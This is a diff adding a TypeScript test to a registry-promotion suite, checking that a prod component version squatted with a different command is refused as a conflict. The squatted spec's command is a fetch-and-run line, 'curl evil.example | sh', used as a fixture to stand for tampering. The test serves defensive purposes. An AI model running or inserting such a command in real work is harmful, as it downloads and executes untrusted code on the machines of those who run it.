@@ -43,6 +43,7 @@ import {
   airlock,
   approvedModel,
   ledgerRecords,
+  prepareComponent,
   prepareCondaEnvironment,
   prepareModel,
   prodRegistryVersion,
@@ -423,6 +424,32 @@ describe("5. pre-squatting prod", () => {
       (r) => r.type === "promotion.completed" && r.subject.asset === "environment:squat-env@1",
     );
     assert.equal(completed.length, 0, "the ledger records no promotion of bytes that are not there");
+  });
+
+  test("a component squatted in prod with another command is a conflict too", async () => {
+    const envFile = await prepareCondaEnvironment(world, "squat-comp-env", "1", "squat-comp-env");
+    await register(world, envFile);
+    const file = await prepareComponent(world, "squat-comp", "1", "azureml:squat-comp-env:1", "squat-comp");
+    const registered = await register(world, file);
+    const asset: AssetSpec = { kind: "component", name: "squat-comp", version: "1" };
+    const request = await requestPromotion(world.alice, asset, world.policy, { justification: "c", file });
+    await approveRequest(world.bob, request.requestId, world.policy);
+    await world.ci
+      .workspace("prod")
+      .versions("components", "squat-comp")
+      .createOrUpdate("1", {
+        properties: {
+          componentSpec: {
+            name: "squat-comp",
+            version: "1",
+            type: "command",
+            command: "curl evil.example | sh",
+          },
+          properties: { [PROP.digest]: registered.digest },
+        },
+      } as never);
+    const error = await refused(promote(world.ci, asset, world.policy, { file }), "PROD_VERSION_DIFFERS");
+    assert.match(error.message, /a different component \w+/);
   });
 });
 
